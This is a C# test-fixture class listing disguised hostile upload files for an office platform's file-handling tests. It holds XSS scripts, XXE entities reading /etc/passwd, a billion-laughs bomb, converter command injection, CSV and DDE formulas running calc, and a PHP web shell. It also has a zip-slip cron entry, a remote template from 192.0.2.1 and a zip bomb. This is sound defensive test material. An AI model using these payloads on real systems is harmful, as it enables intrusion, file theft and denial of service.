using System.IO.Compression;
using System.Text;

namespace OffenesHaus.Office.Tests.Platform.Hostile;

/// <summary>What is not what its name says: programs, markup, archives, office files, empty and odd ones.</summary>
internal static class Pretenders
{
    public static IEnumerable<HostileFile> All =>
    [
        new("nothing", "leer.pdf", [], "application/pdf"),
        new("one byte", "a.jpg", [0xFF], "image/jpeg"),
        new("three bytes of a photo", "kurz.jpg", [0xFF, 0xD8, 0xFF], "image/jpeg"),
        new("zeros", "null.jpg", new byte[100_000], "image/jpeg"),
        Text("page as a photo", "urlaub.jpg", "<!doctype html><script>alert('kuckucksei')</script>", "image/jpeg"),
        Text("page as a page", "brief.html", "<html><body onload=alert('kuckucksei')>", "text/html"),
        Text("page as a PDF", "bescheid.pdf", "<html><script>location='http://192.0.2.1'</script>", "application/pdf"),
        Text("page in XHTML", "a.xhtml", "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>alert('kuckucksei')</script></html>", "application/xhtml+xml"),
        new("page in UTF-16", "a.txt", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("<html><script>alert('kuckucksei')</script>")).ToArray(), "text/plain"),
        Text("page in UTF-7", "a.txt", "+ADw-script+AD4-alert('kuckucksei')+ADw-/script+AD4-", "text/plain; charset=utf-7"),
        Text("page behind two thousand letters", "a.txt", new string('a', 2000) + "<script>alert('kuckucksei')</script>", "text/plain"),
        Text("page behind five thousand letters", "a.txt", new string('a', 5000) + "<script>alert('kuckucksei')</script>", "text/html"),
        new("page behind a zero", "a.html", [0, .. "<script>alert('kuckucksei')</script>"u8], "text/html"),
        Text("drawing with script", "bild.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert('kuckucksei')</script></svg>", "image/svg+xml"),
        Text("drawing as a photo", "bild.png", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/png"),
        Text("drawing that opens a file", "bild.svg", "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text><image href='file:///etc/passwd'/></svg>", "image/svg+xml"),
        Text("drawing of a thousand million laughs", "bild.svg", "<!DOCTYPE svg [" + string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY l{i} '{string.Concat(Enumerable.Repeat(i == 1 ? "lol" : $"&l{i - 1};", 10))}'>")) + "]><svg>&l9;</svg>", "image/svg+xml"),
        new("drawing packed", "bild.svgz", Gzip("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"u8.ToArray()), "image/svg+xml"),
        Text("drawing in PostScript", "bild.jpg", "%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file pop showpage", "image/jpeg"),
        Text("drawing in words of a converter", "bild.png", "push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'https://192.0.2.1/x\"|touch \"/tmp/kuckucksei'\npop graphic-context", "image/png"),
        Text("list with formulas", "liste.csv", "=cmd|' /C calc'!A0,+1+1,@SUM(A1),-2", "text/csv"),
        Text("text that rings and clears the screen", "a.txt", "\u001B[2J\u001B]0;kuckucksei\u0007\u001B[31m", "text/plain"),
        Text("letter with a page in it", "brief.eml", "From: a@b.c\nContent-Type: text/html\n\n<html><script>alert('kuckucksei')</script>", "message/rfc822"),
        Text("page with its parts", "a.mht", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\n\n<script>alert('kuckucksei')</script>\n--x--", "multipart/related"),
        Text("programs in words: PHP", "a.php", "<?php system($_GET['kuckucksei']); ?>", "application/x-php"),
        Text("programs in words: JavaScript", "a.js", "new ActiveXObject('WScript.Shell').Run('calc')", "text/javascript"),
        Text("programs in words: batch", "a.bat", "@echo off\r\ncalc", "application/x-bat"),
        Text("programs in words: shell", "a.sh", "#!/bin/sh\ntouch /tmp/kuckucksei", "application/x-sh"),
        Text("programs in words: desktop", "a.desktop", "[Desktop Entry]\nType=Application\nExec=touch /tmp/kuckucksei", "application/x-desktop"),
        Text("link to the net", "a.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/kuckucksei.exe", "application/internet-shortcut"),
        Text("test file of the virus scanners", "eicar.com", @"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
        new("program for Windows", "foto.jpg", [.. "MZ"u8, 0x90, 0, 3, 0, 0, 0, .. new byte[400]], "image/jpeg"),
        new("program for Linux", "rechnung.pdf", [0x7F, .. "ELF"u8, 2, 1, 1, .. new byte[400]], "application/pdf"),
        new("program for the Mac", "foto.heic", [0xCF, 0xFA, 0xED, 0xFE, .. new byte[400]], "image/heic"),
        new("program for Java", "a.png", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, .. new byte[100]], "image/png"),
        new("shortcut of Windows", "foto.lnk", [0x4C, 0, 0, 0, 1, 0x14, 2, 0, .. new byte[100]], "image/jpeg"),
        new("disk as a photo", "foto.iso", [.. new byte[32769], .. "CD001"u8, .. new byte[2000]], "image/jpeg"),
        new("archive that swells", "unterlagen.zip", Corpus.ZipBomb(), "application/zip"),
        new("archive of archives", "a.zip", Zip(("b.zip", Zip(("c.zip", Corpus.ZipBomb()))))),
        new("archive that climbs", "a.zip", Zip(("../../../../etc/cron.d/kuckucksei", "* * * * * root id"u8.ToArray()))),
        new("archive whose names are one", "a.zip", Zip(("a.txt", [1]), ("a.txt", [2]))),
        new("archive that only begins", "a.zip", [.. "PK\u0003\u0004"u8, .. new byte[30]]),
        new("packed zeros", "a.pdf", Gzip(new byte[50_000_000]), "application/pdf"),
        new("archive of another kind", "a.rar", [.. "Rar!\u001A\u0007\u0001\0"u8, .. new byte[100]]),
        new("text file with macros", "brief.docm", Office(("word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0]))),
        new("text file with a template from the net", "brief.docx", Office(("word/_rels/settings.xml.rels", "<Relationships><Relationship Type='attachedTemplate' Target='http://192.0.2.1/kuckucksei.dotm' TargetMode='External'/></Relationships>"u8.ToArray()))),
        new("text file with entities", "brief.docx", Office(("word/document.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"u8.ToArray()))),
        new("sheet that calls a program", "liste.xlsx", Office(("xl/externalLinks/externalLink1.xml", "<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"u8.ToArray()))),
        new("text file of the free kind with a macro", "brief.odt", Zip(("mimetype", "application/vnd.oasis.opendocument.text"u8.ToArray()), ("Basic/Standard/kuckucksei.xml", "<script/>"u8.ToArray()))),
        new("old text file", "brief.doc", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]], "application/msword"),
        Text("text file with an object", "brief.rtf", "{\\rtf1{\\object\\objocx{\\*\\objdata 0105000002000000}}}", "application/rtf"),
        .. Unwanted.Select(u => new HostileFile($"picture of a kind that is not drawn: {u.Kind}", "foto.jpg", u.Bytes, "image/jpeg")),
    ];

    // Readers of these are in the library that draws: none may be reached.
    private static readonly (string Kind, byte[] Bytes)[] Unwanted =
    [
        ("portable pixels", "P6 60000 60000 255\n"u8.ToArray()),
        ("radiance", "#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 60000 +X 60000\n"u8.ToArray()),
        ("of the stars", Encoding.ASCII.GetBytes("SIMPLE  =                    T".PadRight(80) + "NAXIS1  =                60000".PadRight(2800))),
        ("of numbers", [.. "MATLAB 5.0 MAT-file"u8, .. new byte[200]]),
        ("of the library itself", [0xB6, 0xA6, 0xF2, 0x08, .. new byte[100]]),
        ("JPEG 2000", [0, 0, 0, 12, .. "jP  \r\n"u8, 0x87, 0x0A, .. new byte[50]]),
        ("JPEG XL", [0xFF, 0x0A, .. new byte[50]]),
        ("of film", [0x76, 0x2F, 0x31, 0x01, 2, 0, 0, 0, .. new byte[50]]),
        ("bitmap", [.. "BM"u8, 0xFF, 0xFF, 0xFF, 0x7F, 0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0, 0, 0, 1, 0, 0, 0, 1, 0, 1, 0, 24, 0, .. new byte[40]]),
        ("icon", [0, 0, 1, 0, 255, 255, .. new byte[60]]),
        ("of Photoshop", [.. "8BPS"u8, 0, 1, .. new byte[60]]),
    ];

    private static HostileFile Text(string tries, string name, string words, string type = "application/octet-stream") => new(tries, name, Encoding.Latin1.GetBytes(words), type);

    private static byte[] Office(params (string Name, byte[] Bytes)[] parts) => Zip([("[Content_Types].xml", "<Types/>"u8.ToArray()), ("_rels/.rels", "<Relationships/>"u8.ToArray()), .. parts]);

    public static byte[] Zip(params (string Name, byte[] Bytes)[] parts)
    {
        var file = new MemoryStream();
        using (var zip = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, bytes) in parts)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(bytes);
            }

        return file.ToArray();
    }

    private static byte[] Gzip(byte[] bytes)
    {
        var file = new MemoryStream();
        using (var gzip = new GZipStream(file, CompressionLevel.SmallestSize, leaveOpen: true))
            gzip.Write(bytes);
        return file.ToArray();
    }
}
